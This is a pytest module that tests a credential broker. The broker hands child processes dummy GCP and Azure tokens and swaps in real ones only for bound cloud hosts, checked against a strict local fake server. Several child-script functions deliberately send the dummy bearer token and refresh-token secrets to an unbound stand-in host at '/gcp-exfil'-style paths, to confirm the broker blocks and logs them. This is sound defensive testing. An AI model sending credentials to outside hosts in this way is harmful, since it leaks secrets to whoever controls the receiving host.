"""The gcp and azure token credentials under `broker wrap` (docs/architecture.md, docs/policy.md, docs/cli.md, docs/security-model.md).

Both families broker short-lived OAuth access tokens: the broker gets a real one when the
session starts (gcp: from a Google key file, through its own HTTPS POST to the token endpoint;
azure: from `az account get-access-token`; either: from a `cmd:` source), refreshes it before it
expires, and swaps the child's one dummy access token for the current real one on the bound hosts.
A gcp child gets a session key file holding a dummy OAuth client; the token requests it makes
with it are answered by the broker itself, with the dummy access token.

Upstream is `fake_google.FakeCloud` (one TLS server on loopback for oauth2.googleapis.com,
storage.googleapis.com and management.azure.com, reached with `--connect-to`): its token endpoint
verifies every JWT bearer assertion's RS256 signature with the service account's public key and
its claims, and its APIs accept only tokens it issued (or a fake `az` printed) that have not
expired. Clients are real: google-auth 1.5.1 and requests under /usr/bin/python3, and curl.

One wrapped script per scenario prints one JSON line ("RESULT {...}"); module-scoped fixtures run
each scenario once and the tests read their parts. The first tests need no broker: they show the
fake is strict, with google-auth's own JWT signing and refresh-token grant.
"""

import base64
import json
import os
import re
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

import fake_google
import wrapped_session
from conftest import assert_refusal, make_pki
from fake_google import FakeCloud, make_authorized_user, make_service_account
from wrapped_session import CHILD_HELPERS, OTHER, WrappedRun, Wrapper, forms_of

PY = "/usr/bin/python3"  # Debian's, with python3-google-auth and python3-requests
STORAGE_URL = "https://storage.googleapis.com/storage/v1/b?project=p"
AZURE_URL = "https://management.azure.com/subscriptions?api-version=2020-01-01"
CUSTOM_SCOPES = ["https://www.googleapis.com/auth/devstorage.read_only",
                 "https://www.googleapis.com/auth/userinfo.email"]
LOOP_SECONDS = 6.0
SHORT_LIFE = 4  # seconds: the broker refreshes at half of it

# The real credentials of each session (the fake knows them all).
SA_MAIN = make_service_account("broker-main", 3599, " ".join(CUSTOM_SCOPES))
SA_REFRESH = make_service_account("broker-refresh", SHORT_LIFE)
USER = make_authorized_user("broker-user", 3599)
CMD_TOKEN = "ya29.c." + base64.urlsafe_b64encode(os.urandom(120)).decode().rstrip("=")
# Used without the broker only, to show the fake is strict.
SA_DIRECT = make_service_account("broker-direct", 3599)
SA_BOUNDED = make_service_account("broker-bounded", 3599)
SA_UNMINTABLE = make_service_account("broker-unmintable", 3599)
SA_OTHER_KEY = make_service_account("broker-direct", 3599)  # same email, another key
USER_DIRECT = make_authorized_user("broker-user-direct", 3599)


def gcp_policy(name="google", **credential):
    return {
        "version": 1,
        "allow": [{"host": h, "ports": [443]} for h in fake_google.GOOGLE_HOSTS + [OTHER]],
        "credentials": {name: {"type": "gcp", "hosts": ["*.googleapis.com"], **credential}},
    }


def azure_policy(name="azure", **credential):
    return {
        "version": 1,
        "allow": [{"host": h, "ports": [443]} for h in fake_google.AZURE_HOSTS + [OTHER]],
        "credentials": {name: {"type": "azure", "hosts": ["management.azure.com"], **credential}},
    }


# ==============================================================================================
# What runs inside the session (python3 -c SCRIPT CONF_JSON); prints "RESULT {json}"
# ==============================================================================================

CHILD_COMMON = r'''
import json, os, shutil, subprocess, sys, tempfile, time, traceback
CONF = json.loads(sys.argv[1])
OUT = {"env": dict(os.environ)}
import requests


def step(name, fn):
    try:
        OUT[name] = {"ok": True, "value": fn()}
    except Exception as e:
        OUT[name] = {"ok": False, "error": type(e).__name__, "message": repr(e)[:2000],
                     "trace": traceback.format_exc()[-3000:]}


def curl(url, variable):
    """curl -H "Authorization: Bearer $VARIABLE" URL, as a user would type it in a shell."""
    tmp = tempfile.mkdtemp()
    env = {**os.environ, "URL": url, "HDR": tmp + "/h", "BODY": tmp + "/b"}
    script = ('curl -sS --max-time 20 -D "$HDR" -o "$BODY" -w "%{http_code}" '
              '-H "Authorization: Bearer $' + variable + '" "$URL"')
    p = subprocess.run(["sh", "-c", script], capture_output=True, text=True, env=env, timeout=30)
    head = open(env["HDR"], errors="replace").read() if os.path.exists(env["HDR"]) else ""
    headers = {}
    blocks = [b for b in head.replace("\r\n", "\n").split("\n\n") if b.strip()]
    for line in (blocks[-1].split("\n")[1:] if blocks else []):
        if ":" in line:
            k, v = line.split(":", 1)
            headers[k.strip().lower()] = v.strip()
    body = open(env["BODY"], errors="replace").read() if os.path.exists(env["BODY"]) else ""
    shutil.rmtree(tmp, ignore_errors=True)
    return {"rc": p.returncode, "status": int(p.stdout or 0), "headers": headers, "body": body[:4000],
            "stderr": p.stderr[-2000:]}


def poll(fetch):
    """Calls fetch() about every half second for CONF["loop_seconds"]; returns what each call
    returned, or {"status": 0, "error": ...} for one that raised."""
    out = []
    end = time.monotonic() + CONF["loop_seconds"]
    while time.monotonic() < end:
        t = time.monotonic()
        try:
            out.append(fetch())
        except Exception as e:
            out.append({"status": 0, "error": repr(e)[:500]})
        time.sleep(max(0.0, 0.5 - (time.monotonic() - t)))
    return out


def snapshot():
    """Copies the session directory (the key file's and the trust bundle's; it is removed when
    the session ends) to CONF["snapshot"], regular files only; returns the names copied."""
    names = []
    dirs = {os.path.dirname(os.environ[v]) for v in ("GOOGLE_APPLICATION_CREDENTIALS", "SSL_CERT_FILE")
            if os.environ.get(v)}
    for d in sorted(dirs):
        for entry in os.scandir(d):
            if entry.is_file(follow_symlinks=False):
                dst = os.path.join(CONF["snapshot"], d.strip("/").replace("/", "_"), entry.name)
                os.makedirs(os.path.dirname(dst), exist_ok=True)
                shutil.copyfile(entry.path, dst)
                names.append(entry.path)
    return names
''' + CHILD_HELPERS

GCP_SCRIPT = CHILD_COMMON + r'''
import google.auth
from google.auth.transport.requests import AuthorizedSession

STORAGE = CONF["storage"]
OTHER = CONF["other"]
DUMMY = os.environ.get("CLOUDSDK_AUTH_ACCESS_TOKEN")
STATE = {}


def key_file():
    with open(os.environ["GOOGLE_APPLICATION_CREDENTIALS"]) as f:
        text = f.read()
    st = os.stat(os.environ["GOOGLE_APPLICATION_CREDENTIALS"])
    return {"text": text, "mode": st.st_mode & 0o777}


def adc():
    creds, project = google.auth.default()
    session = AuthorizedSession(creds)
    STATE["creds"], STATE["session"] = creds, session
    r = session.get(STORAGE, timeout=30)
    return {**response(r), "token": creds.token, "client_id": creds.client_id,
            "class": type(creds).__module__ + "." + type(creds).__name__}


def echo():
    r = STATE["session"].get("https://storage.googleapis.com/storage/v1/echo-auth", timeout=30)
    return {**response(r), "token": STATE["creds"].token}


def storage_once():
    r = STATE["session"].get(STORAGE, timeout=30)
    return {"status": r.status_code, "token": STATE["creds"].token,
            "body": r.text[:300] if r.status_code != 200 else ""}


def unbound_bearer():
    return response(requests.get(f"https://{OTHER}/gcp-exfil",
                                 headers={"Authorization": f"Bearer {DUMMY}"}, timeout=30))


def unbound_refresh_token():
    # The dummy OAuth client's refresh token, posted like a token request, to a host that is not
    # Google's.
    key = json.load(open(os.environ["GOOGLE_APPLICATION_CREDENTIALS"]))
    return response(requests.post(f"https://{OTHER}/gcp-exfil-refresh", timeout=30, data={
        "grant_type": "refresh_token", "client_id": key["client_id"],
        "client_secret": key["client_secret"], "refresh_token": key["refresh_token"]}))


step("key_file", key_file)
step("snapshot", snapshot)
step("adc", adc)
step("curl", lambda: curl(STORAGE, "CLOUDSDK_AUTH_ACCESS_TOKEN"))
if CONF.get("echo"):
    step("echo", echo)
if CONF.get("unbound"):
    step("unbound_bearer", unbound_bearer)
    step("unbound_refresh_token", unbound_refresh_token)
if CONF.get("loop_seconds"):
    step("loop", lambda: poll(storage_once))
    step("curl_after", lambda: curl(STORAGE, "CLOUDSDK_AUTH_ACCESS_TOKEN"))
finish()
'''

AZURE_SCRIPT = CHILD_COMMON + r'''
URL = CONF["url"]
OTHER = CONF["other"]
TOKEN = os.environ.get("AZURE_ACCESS_TOKEN")


def get(url):
    return response(requests.get(url, headers={"Authorization": f"Bearer {TOKEN}"}, timeout=30))


def url_once():
    r = get(URL)
    return {"status": r["status"], "body": r["body"][:300] if r["status"] != 200 else ""}


step("snapshot", snapshot)
step("requests", lambda: [get(URL) for _ in range(3)])
step("curl", lambda: [curl(URL, "AZURE_ACCESS_TOKEN") for _ in range(2)])
if CONF.get("echo"):
    step("echo", lambda: get("https://management.azure.com/echo-auth"))
if CONF.get("unbound"):
    step("unbound_bearer", lambda: get(f"https://{OTHER}/azure-exfil"))
if CONF.get("loop_seconds"):
    step("loop", lambda: poll(url_once))
finish()
'''

FAKE_AZ = r'''#!/usr/bin/python3
# A fake `az`: `az account get-access-token --output json` prints a new token each run.
import datetime, json, secrets, string, sys, time
RUNS, ISSUED, LIFETIME = {runs!r}, {issued!r}, {lifetime!r}
with open(RUNS, "a") as f:
    f.write(json.dumps(sys.argv[1:]) + "\n")
if sys.argv[1:4] != ["account", "get-access-token", "--output"] or sys.argv[4:] != ["json"]:
    print("fake az: unexpected arguments", sys.argv[1:], file=sys.stderr)
    sys.exit(2)
chars = string.ascii_letters + string.digits + "-_"
part = lambda n: "".join(secrets.choice(chars) for _ in range(n))
token = "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9." + part(480) + "." + part(342)
expires = int(time.time()) + LIFETIME
with open(ISSUED, "a") as f:
    f.write(f"{{token}} {{expires}}\n")
print(json.dumps({{
    "accessToken": token,
    "expiresOn": datetime.datetime.fromtimestamp(expires).strftime("%Y-%m-%d %H:%M:%S.%f"),
    "expires_on": expires,
    "subscription": "00000000-1111-2222-3333-444444444444",
    "tenant": "99999999-8888-7777-6666-555555555555",
    "tokenType": "Bearer",
}}, indent=2))
'''


# ==============================================================================================
# Running a session
# ==============================================================================================


@dataclass
class CloudRun(WrappedRun):
    snapshot: Path = None  # the child's copy of the session directory, made while it existed

    def written_roots(self) -> tuple:
        return (*super().written_roots(), self.snapshot)


class CloudWrapper(Wrapper):
    hosts = fake_google.GOOGLE_HOSTS + fake_google.AZURE_HOSTS

    def run(self, name, script, conf, policy, env=None, path_prefix=None, log_level="debug",
            timeout=90) -> CloudRun:
        snap = self.dir(name) / "snapshot"
        snap.mkdir()
        conf = {"storage": STORAGE_URL, "url": AZURE_URL, "other": OTHER,
                "snapshot": str(snap), **conf}
        return self.wrap(CloudRun, name, [PY, "-c", script, json.dumps(conf)], policy, env=env,
                         path_prefix=path_prefix, log_level=log_level, timeout=timeout,
                         snapshot=snap)

    def key_file(self, name, doc) -> Path:
        path = self.dir("keys") / f"{name}.json"
        path.write_text(json.dumps(doc, indent=2))
        path.chmod(0o600)
        return path

    def fake_az(self, name, lifetime):
        """A fake `az` in its own directory (for PATH); returns (dir, script, runs, issued)."""
        d = self.dir(f"az-{name}")
        runs, issued = d / "runs.txt", d / "issued.txt"
        bindir = d / "bin"
        bindir.mkdir()
        script = bindir / "az"
        script.write_text(FAKE_AZ.format(runs=str(runs), issued=str(issued), lifetime=lifetime))
        script.chmod(0o755)
        self.fake.watch_az_file(issued, f"az-{name}")
        return bindir, script, runs, issued


# ==============================================================================================
# Fixtures (module scope: one PKI, one fake, each session run once)
# ==============================================================================================


@pytest.fixture(scope="module")
def upstream_pki(tmp_path_factory):
    return make_pki(tmp_path_factory.mktemp("cloud-pki"), fake_google.CERT_NAMES)


@pytest.fixture(scope="module")
def fake(upstream_pki):
    f = FakeCloud(upstream_pki)
    for account in (SA_MAIN, SA_REFRESH, SA_DIRECT, SA_BOUNDED, SA_UNMINTABLE):
        f.add_account(account)
    f.refuse_exchanges(SA_UNMINTABLE)
    f.add_user(USER)
    f.add_user(USER_DIRECT)
    f.accept_static(CMD_TOKEN, "cmd-token")
    yield f
    f.close()


# The echo upstream posing as OTHER, and a plain CONNECT proxy (no broker) to the fake and it.
echo, proxy = wrapped_session.echo, wrapped_session.proxy


@pytest.fixture(scope="module")
def wrapper(tmp_path_factory, upstream_pki, fake, echo):
    return CloudWrapper(tmp_path_factory.mktemp("cloud-wrap"), upstream_pki, fake, echo)


@pytest.fixture(scope="module")
def sa_run(wrapper):
    """A service-account key file (file: source) with two scopes; long-lived tokens."""
    key = wrapper.key_file("sa-main", SA_MAIN.key_file())
    return wrapper.run("sa", GCP_SCRIPT, {"echo": True, "unbound": True},
                       gcp_policy(source=f"file:{key}", scopes=CUSTOM_SCOPES))


BOUNDARY = [{"availableResource": "//storage.googleapis.com/projects/_/buckets/broker-test",
             "availablePermissions": ["inRole:roles/storage.objectViewer"]}]


@pytest.fixture(scope="module")
def downscoped_run(wrapper):
    """The same kind of key file, with an access boundary: storage gets a downscoped token."""
    key = wrapper.key_file("sa-bounded", SA_BOUNDED.key_file())
    return wrapper.run("bounded", GCP_SCRIPT, {},
                       gcp_policy(source=f"file:{key}", access_boundary=BOUNDARY))


@pytest.fixture(scope="module")
def unmintable_run(wrapper):
    """An access boundary on an account whose tokens Google's STS refuses to downscope."""
    key = wrapper.key_file("sa-unmintable", SA_UNMINTABLE.key_file())
    return wrapper.run("unmintable", GCP_SCRIPT, {},
                       gcp_policy(source=f"file:{key}", access_boundary=BOUNDARY))


@pytest.fixture(scope="module")
def refresh_run(wrapper):
    """A service-account key named by GOOGLE_APPLICATION_CREDENTIALS in the broker's environment
    (the default source), tokens that live SHORT_LIFE seconds, a child making requests for
    LOOP_SECONDS."""
    key = wrapper.key_file("sa-refresh", SA_REFRESH.key_file())
    run = wrapper.run("refresh", GCP_SCRIPT, {"loop_seconds": LOOP_SECONDS}, gcp_policy(),
                      env={"GOOGLE_APPLICATION_CREDENTIALS": str(key)})
    run.real_key_path = str(key)
    return run


@pytest.fixture(scope="module")
def user_run(wrapper):
    """An authorized_user key file (gcloud's application-default login) as the source."""
    key = wrapper.key_file("user", USER.key_file())
    return wrapper.run("user", GCP_SCRIPT, {}, gcp_policy(name="google-user", source=f"file:{key}"))


@pytest.fixture(scope="module")
def cmd_run(wrapper):
    """A command printing a bare token (like gcloud auth print-access-token)."""
    return wrapper.run("cmd", GCP_SCRIPT, {},
                       gcp_policy(name="google-cmd", source=f"cmd:printf '{CMD_TOKEN}'"))


@pytest.fixture(scope="module")
def azure_run(wrapper):
    """The default source: `az account get-access-token --output json`, a fake az first on the
    broker's PATH; tokens valid for an hour."""
    bindir, _, runs, _ = wrapper.fake_az("main", 3600)
    run = wrapper.run("azure", AZURE_SCRIPT, {"echo": True, "unbound": True}, azure_policy(),
                      path_prefix=bindir)
    run.az_runs = runs
    run.az_label = "az-main"
    return run


@pytest.fixture(scope="module")
def azure_refresh_run(wrapper):
    """"source": "cmd:/path/to/fake-az ..." with tokens that expire SHORT_LIFE seconds out."""
    _, script, runs, _ = wrapper.fake_az("refresh", SHORT_LIFE)
    run = wrapper.run("azure-refresh", AZURE_SCRIPT, {"loop_seconds": LOOP_SECONDS},
                      azure_policy(source=f"cmd:{script} account get-access-token --output json"))
    run.az_runs = runs
    run.az_label = "az-refresh"
    return run


# ==============================================================================================
# Shared checks
# ==============================================================================================


def az_run_count(path: Path) -> int:
    return len(path.read_text().splitlines()) if path.exists() else 0


def az_tokens(fake, label):
    return [t for t in fake.az_tokens().values() if t.who == label]


def assert_gcp_session_env(run: CloudRun, real_client=None):
    env = run.env()
    dummy = env.get("CLOUDSDK_AUTH_ACCESS_TOKEN")
    assert dummy and dummy.startswith("ya29."), f"no dummy access token: {env}"
    key = json.loads(run.ok("key_file")["text"])
    assert key["type"] == "authorized_user", key
    assert key["token_uri"] == fake_google.TOKEN_URI, key
    assert re.fullmatch(r"\d+-[a-z0-9]+\.apps\.googleusercontent\.com", key["client_id"]), key
    assert key["client_secret"] and key["refresh_token"], key
    if real_client is not None:
        assert key["client_id"] != real_client.client_id
        assert key["client_secret"] != real_client.client_secret
        assert key["refresh_token"] != real_client.refresh_token
    assert run.ok("key_file")["mode"] & 0o077 == 0, "the session key file is readable by others"
    assert env.get("HTTPS_PROXY") and env.get("REQUESTS_CA_BUNDLE"), env
    assert env.get("CLOUDSDK_CORE_CUSTOM_CA_CERTS_FILE") == env.get("SSL_CERT_FILE"), env
    return dummy, key


def assert_storage_ok(resp: dict):
    assert resp["status"] == 200, resp
    body = json.loads(resp["body"])
    assert [b["name"] for b in body["items"]] == fake_google.BUCKETS, body


def assert_azure_ok(resp: dict):
    assert resp["status"] == 200, resp
    assert json.loads(resp["body"])["value"] == fake_google.SUBSCRIPTIONS, resp


def real_values(run_name, fake) -> list:
    """Every real secret of a scenario, as known to the fake after the run."""
    if run_name in ("sa_run", "refresh_run"):
        account = SA_MAIN if run_name == "sa_run" else SA_REFRESH
        values = [i.token for i in fake.issued_to(account.email)]
        for g in fake.grants_for(account.email):
            values += [g["form"]["assertion"], g["form"]["assertion"].rsplit(".", 1)[1]]
        return values + account.pem_lines()
    if run_name == "user_run":
        return [i.token for i in fake.issued_to(USER.name)] + [USER.client_secret,
                                                               USER.refresh_token]
    if run_name == "cmd_run":
        return [CMD_TOKEN]
    label = {"azure_run": "az-main", "azure_refresh_run": "az-refresh"}[run_name]
    return [t.token for t in az_tokens(fake, label)]


# ==============================================================================================
# 0. The fake is strict (no broker)
# ==============================================================================================


def _direct_session(proxy, pki):
    import requests
    s = requests.Session()
    s.trust_env = False
    s.proxies = {"https": proxy.url}
    s.verify = str(pki.ca_cert)
    return s


def test_fake_accepts_google_auths_own_grants_and_refuses_bad_ones(fake, proxy, upstream_pki):
    """google-auth's JWT bearer grant and refresh-token grant work against the fake, its tokens
    open the storage API; a wrong key, a tampered assertion, a wrong scope, a wrong client secret
    and an unknown token are all refused."""
    import google.auth.exceptions
    from google.auth.transport.requests import Request
    from google.oauth2 import credentials as user_credentials
    from google.oauth2 import service_account

    http = _direct_session(proxy, upstream_pki)
    req = Request(http)
    sa = service_account.Credentials.from_service_account_info(
        SA_DIRECT.key_file(), scopes=[fake_google.DEFAULT_SCOPE])
    sa.refresh(req)
    assert sa.token in {i.token for i in fake.issued_to(SA_DIRECT.email)}
    r = http.get(STORAGE_URL, headers={"Authorization": f"Bearer {sa.token}"})
    assert r.status_code == 200 and [b["name"] for b in r.json()["items"]] == fake_google.BUCKETS

    user = user_credentials.Credentials(None, refresh_token=USER_DIRECT.refresh_token,
                                        token_uri=fake_google.TOKEN_URI,
                                        client_id=USER_DIRECT.client_id,
                                        client_secret=USER_DIRECT.client_secret)
    user.refresh(req)
    assert user.token in {i.token for i in fake.issued_to(USER_DIRECT.name)}
    assert http.get(STORAGE_URL, headers={"Authorization": f"Bearer {user.token}"}).status_code == 200

    def refused(creds, why):
        with pytest.raises(google.auth.exceptions.RefreshError):
            creds.refresh(req)
        assert why in fake.snapshot("failures")[-1]["why"], fake.snapshot("failures")[-1]

    other_key = dict(SA_DIRECT.key_file(), private_key=SA_OTHER_KEY.private_key_pem)
    refused(service_account.Credentials.from_service_account_info(
        other_key, scopes=[fake_google.DEFAULT_SCOPE]), "invalid JWT signature")
    refused(service_account.Credentials.from_service_account_info(
        SA_DIRECT.key_file(), scopes=CUSTOM_SCOPES), "scope")
    refused(user_credentials.Credentials(None, refresh_token=USER_DIRECT.refresh_token,
                                         token_uri=fake_google.TOKEN_URI,
                                         client_id=USER_DIRECT.client_id,
                                         client_secret=USER.client_secret), "client_secret")
    # A valid assertion with one signature byte changed.
    good = [g for g in fake.grants_for(SA_DIRECT.email) if g["ok"]][0]["form"]["assertion"]
    head, claims, sig = good.split(".")
    flipped = sig[:10] + ("A" if sig[10] != "A" else "B") + sig[11:]
    r = http.post(fake_google.TOKEN_URI, data={"grant_type": fake_google.JWT_GRANT,
                                               "assertion": f"{head}.{claims}.{flipped}"})
    assert r.status_code == 400 and r.json()["error"] == "invalid_grant", r.text
    r = http.get(STORAGE_URL, headers={"Authorization": "Bearer " +
                                       fake_google.google_access_token()})
    assert r.status_code == 401, r.text


# ==============================================================================================
# a. gcp, service account key file: google-auth and curl under wrap
# ==============================================================================================


def test_gcp_child_gets_a_dummy_key_file_and_a_dummy_access_token(sa_run):
    assert sa_run.returncode == 0, sa_run.describe()
    dummy, key = assert_gcp_session_env(sa_run)
    env = sa_run.env()
    assert env["GOOGLE_APPLICATION_CREDENTIALS"] in sa_run.ok("snapshot"), sa_run.out()["snapshot"]
    lines = sa_run.session_lines()
    assert lines, sa_run.describe()
    brokered = lines[0].partition("; removed ")[0]
    assert "GOOGLE_APPLICATION_CREDENTIALS (google)" in brokered, lines[0]
    assert "CLOUDSDK_AUTH_ACCESS_TOKEN (google)" in brokered, lines[0]


def test_gcp_service_account_jwt_grant_is_signed_with_the_real_key(sa_run, fake):
    assert sa_run.returncode == 0, sa_run.describe()
    grants = fake.grants_for(SA_MAIN.email)
    # One start-up fetch (the token lives an hour), its assertion verified by the fake with the
    # account's public key, for the credential's two scopes joined by a space.
    assert len(grants) == 1 and grants[0]["ok"], grants
    assert grants[0]["form"]["grant_type"] == fake_google.JWT_GRANT
    assert len(fake.issued_to(SA_MAIN.email)) == 1


def test_gcp_google_auth_refresh_is_answered_by_the_broker_and_storage_gets_the_real_token(
        sa_run, fake):
    r = sa_run
    dummy, key = assert_gcp_session_env(r)
    adc = r.ok("adc")
    assert adc["class"] == "google.oauth2.credentials.Credentials", adc
    assert adc["client_id"] == key["client_id"], adc
    assert adc["token"] == dummy, "google-auth's refresh did not yield the dummy access token"
    assert_storage_ok(adc)
    # The child's refresh (its dummy refresh token) never reached the real token endpoint.
    for g in fake.snapshot("grants"):
        assert g["form"].get("refresh_token") != key["refresh_token"], g
        assert g["form"].get("client_id") != key["client_id"], g
    assert not [q for q in fake.snapshot("requests") if key["refresh_token"] in q["body"]
                or dummy in (q["authorization"] or "") or dummy in q["body"]]
    real = fake.issued_to(SA_MAIN.email)[0].token
    calls = fake.calls_by(SA_MAIN.email)
    assert calls and all(c["authorization"] == f"Bearer {real}" for c in calls), calls
    assert [c for c in calls if c["path"] == "/storage/v1/b?project=p"], calls
    bad = [f for f in fake.snapshot("failures") if f.get("authorization") in
           (f"Bearer {dummy}", f"Bearer {real}")]
    assert not bad, bad


def test_gcp_access_boundary_downscopes_every_token_storage_sees(downscoped_run, fake):
    r = downscoped_run
    assert r.returncode == 0, r.describe()
    assert_storage_ok(r.ok("adc"))
    assert r.ok("curl")["rc"] == 0, r.ok("curl")
    # The service account's own token went to Google's STS only, with the boundary.
    source = fake.issued_to(SA_BOUNDED.email)
    assert len(source) == 1, source
    exchanges = [e for e in fake.snapshot("exchanges") if e.get("who") == SA_BOUNDED.email]
    assert len(exchanges) == 1 and exchanges[0]["ok"], exchanges
    assert exchanges[0]["boundary"] == BOUNDARY
    assert not fake.calls_by(SA_BOUNDED.email), "the undownscoped token reached storage"
    downscoped = fake.issued_to("downscoped:" + SA_BOUNDED.email)[0].token
    calls = fake.calls_by("downscoped:" + SA_BOUNDED.email)
    assert len(calls) >= 2 and all(c["authorization"] == f"Bearer {downscoped}" for c in calls)
    for what, data in r.written():
        for token in (source[0].token, downscoped):
            assert token.encode() not in data, f"{what} holds a real token"
    # Its records say until when the downscoped token holds.
    served = [q for q in r.requests() if q.get("credential") == "google" and q.get("status") == 200]
    assert served and all(q.get("credential_expires", 0) > time.time() for q in served), served


def test_gcp_access_boundary_that_cannot_be_minted_is_502_never_the_source_token(
        unmintable_run, fake):
    r = unmintable_run
    assert r.returncode == 0, r.describe()  # the session runs; its requests to Google do not
    for what in ("adc", "curl"):
        answer = r.ok(what)
        assert answer["status"] == 502, (what, answer)
        body = json.loads(answer["body"])
        assert body["error"] == "credential_unavailable", body
        assert "400" in body["message"] and "downscope" in body["message"], body
    exchanges = [e for e in fake.snapshot("exchanges") if e.get("who") == SA_UNMINTABLE.email]
    assert len(exchanges) == 1 and not exchanges[0]["ok"], exchanges
    assert not fake.calls_by(SA_UNMINTABLE.email), "the source token reached storage"
    source = fake.issued_to(SA_UNMINTABLE.email)[0].token
    for what, data in r.written():
        assert source.encode() not in data, f"{what} holds the source token"
    refused = [q for q in r.requests() if q.get("error") == "credential_unavailable"]
    assert len(refused) == 2 and all(q["credential"] == "google" for q in refused), refused


def test_gcp_curl_with_the_dummy_from_the_environment(sa_run, fake):
    c = sa_run.ok("curl")
    assert c["rc"] == 0, c
    assert_storage_ok(c)
    real = fake.issued_to(SA_MAIN.email)[0].token
    assert len([x for x in fake.calls_by(SA_MAIN.email) if x["path"] == "/storage/v1/b?project=p"
                and x["authorization"] == f"Bearer {real}"]) >= 2  # google-auth's and curl's


def test_gcp_a_response_echoing_the_real_token_shows_the_dummy(sa_run, fake):
    e = sa_run.ok("echo")
    assert e["status"] == 200, e
    dummy = sa_run.env()["CLOUDSDK_AUTH_ACCESS_TOKEN"]
    real = fake.issued_to(SA_MAIN.email)[0].token
    assert [c for c in fake.calls_by(SA_MAIN.email) if c["path"].endswith("/echo-auth")
            and c["authorization"] == f"Bearer {real}"], "the echo request did not get the real token"
    assert json.loads(e["body"])["seen"] == f"Bearer {dummy}", e
    assert e["headers"].get("x-seen-authorization") == f"Bearer {dummy}", e


def test_gcp_dummies_to_an_unbound_host_are_refused(sa_run, echo):
    for name in ("unbound_bearer", "unbound_refresh_token"):
        v = sa_run.ok(name)
        assert_refusal(v["status"], v["headers"], v["body"].encode(), "credential_not_bound", 403,
                       host=OTHER)
    paths = {q["path"] for q in echo.requests}
    assert "/gcp-exfil" not in paths and "/gcp-exfil-refresh" not in paths, paths
    recs = [q for q in sa_run.records() if q.get("event") == "exfiltration_blocked"]
    assert len(recs) >= 2, sa_run.records()
    assert all(q.get("credential") == "google" and q.get("host") == OTHER for q in recs), recs


def test_gcp_audit_log_records_the_brokered_and_the_locally_answered_requests(sa_run):
    reqs = sa_run.requests()
    storage = [q for q in reqs if q.get("host") == "storage.googleapis.com"
               and (q.get("path") or "").startswith("/storage/v1/b")]
    assert len(storage) >= 2, reqs  # google-auth's and curl's
    assert all(q["status"] == 200 and q.get("credential") == "google" for q in storage), storage
    token = [q for q in reqs if q.get("host") == "oauth2.googleapis.com"]
    assert token, reqs
    assert all(q.get("method") == "POST" and q.get("path") == "/token" and q["status"] == 200
               and q.get("credential") == "google" for q in token), token


# ==============================================================================================
# b. gcp refresh: short-lived tokens, the default GOOGLE_APPLICATION_CREDENTIALS source
# ==============================================================================================


def test_gcp_tokens_are_refreshed_ahead_of_expiry_and_every_request_succeeds(refresh_run, fake):
    r = refresh_run
    assert r.returncode == 0, r.describe()
    dummy, key = assert_gcp_session_env(r)
    assert r.env()["GOOGLE_APPLICATION_CREDENTIALS"] != r.real_key_path
    assert_storage_ok(r.ok("adc"))
    loop = r.ok("loop")
    assert len(loop) >= 8, loop
    assert all(i["status"] == 200 for i in loop), [i for i in loop if i["status"] != 200]
    assert {i["token"] for i in loop} == {dummy}, "the child's access token changed"
    assert_storage_ok(r.ok("curl_after"))
    grants = fake.grants_for(SA_REFRESH.email)
    assert len(grants) >= 3 and all(g["ok"] for g in grants), grants  # start-up + refreshes
    calls = fake.calls_by(SA_REFRESH.email)
    used = {c["token"] for c in calls}
    assert len(used) >= 2, f"the fake saw {len(used)} distinct real tokens over {LOOP_SECONDS} s"
    assert all(c["ok"] for c in calls)
    assert not [f for f in fake.snapshot("failures")
                if (f.get("authorization") or "").startswith("Bearer ")
                and f["authorization"][7:] in used | {dummy}], fake.snapshot("failures")
    # The default scope when the credential names none.
    assert all(json.loads(base64.urlsafe_b64decode(g["form"]["assertion"].split(".")[1] + "=="))
               ["scope"] == fake_google.DEFAULT_SCOPE for g in grants)


# ==============================================================================================
# c. gcp authorized_user key file
# ==============================================================================================


def test_gcp_authorized_user_key_file_as_the_source(user_run, fake):
    r = user_run
    assert r.returncode == 0, r.describe()
    dummy, key = assert_gcp_session_env(r, real_client=USER)
    grants = fake.grants_for(USER.name)
    assert len(grants) == 1 and grants[0]["ok"], grants
    assert grants[0]["form"]["grant_type"] == "refresh_token"
    adc = r.ok("adc")
    assert adc["token"] == dummy
    assert_storage_ok(adc)
    assert_storage_ok(r.ok("curl"))
    real = fake.issued_to(USER.name)[0].token
    calls = fake.calls_by(USER.name)
    assert len(calls) >= 2 and all(c["authorization"] == f"Bearer {real}" for c in calls), calls
    reqs = r.requests()
    assert [q for q in reqs if q.get("host") == "storage.googleapis.com" and q["status"] == 200
            and q.get("credential") == "google-user"], reqs
    assert [q for q in reqs if q.get("host") == "oauth2.googleapis.com" and q["status"] == 200
            and q.get("credential") == "google-user"], reqs


# ==============================================================================================
# d. gcp cmd: source (a bare token, like gcloud auth print-access-token)
# ==============================================================================================


def test_gcp_cmd_source_token_is_sent_upstream(cmd_run, fake):
    r = cmd_run
    assert r.returncode == 0, r.describe()
    dummy, _ = assert_gcp_session_env(r)
    assert dummy != CMD_TOKEN and len(dummy) == len(CMD_TOKEN) and dummy.startswith("ya29."), dummy
    assert_storage_ok(r.ok("curl"))
    assert_storage_ok(r.ok("adc"))
    calls = fake.calls_by("cmd-token")
    assert len(calls) >= 2 and all(c["authorization"] == f"Bearer {CMD_TOKEN}" for c in calls), calls


# ==============================================================================================
# e. azure: az get-access-token as the default source
# ==============================================================================================


def test_azure_child_gets_a_dummy_shaped_like_the_real_token(azure_run, fake):
    r = azure_run
    assert r.returncode == 0, r.describe()
    dummy = r.env().get("AZURE_ACCESS_TOKEN")
    tokens = az_tokens(fake, "az-main")
    assert dummy and len(tokens) == 1, (dummy, tokens)
    real = tokens[0].token
    assert dummy != real and len(dummy) == len(real), dummy
    assert [i for i, c in enumerate(dummy) if c == "."] == [i for i, c in enumerate(real) if c == "."]
    brokered = r.session_lines()[0].partition("; removed ")[0]
    assert "AZURE_ACCESS_TOKEN (azure)" in brokered, brokered


def test_azure_requests_and_curl_reach_management_with_the_real_token(azure_run, fake):
    r = azure_run
    for resp in r.ok("requests"):
        assert_azure_ok(resp)
    for c in r.ok("curl"):
        assert c["rc"] == 0, c
        assert_azure_ok(c)
    real = az_tokens(fake, "az-main")[0].token
    calls = fake.calls_by("az-main")
    assert len([c for c in calls if c["path"].startswith("/subscriptions")]) == 5, calls
    assert all(c["authorization"] == f"Bearer {real}" for c in calls), calls
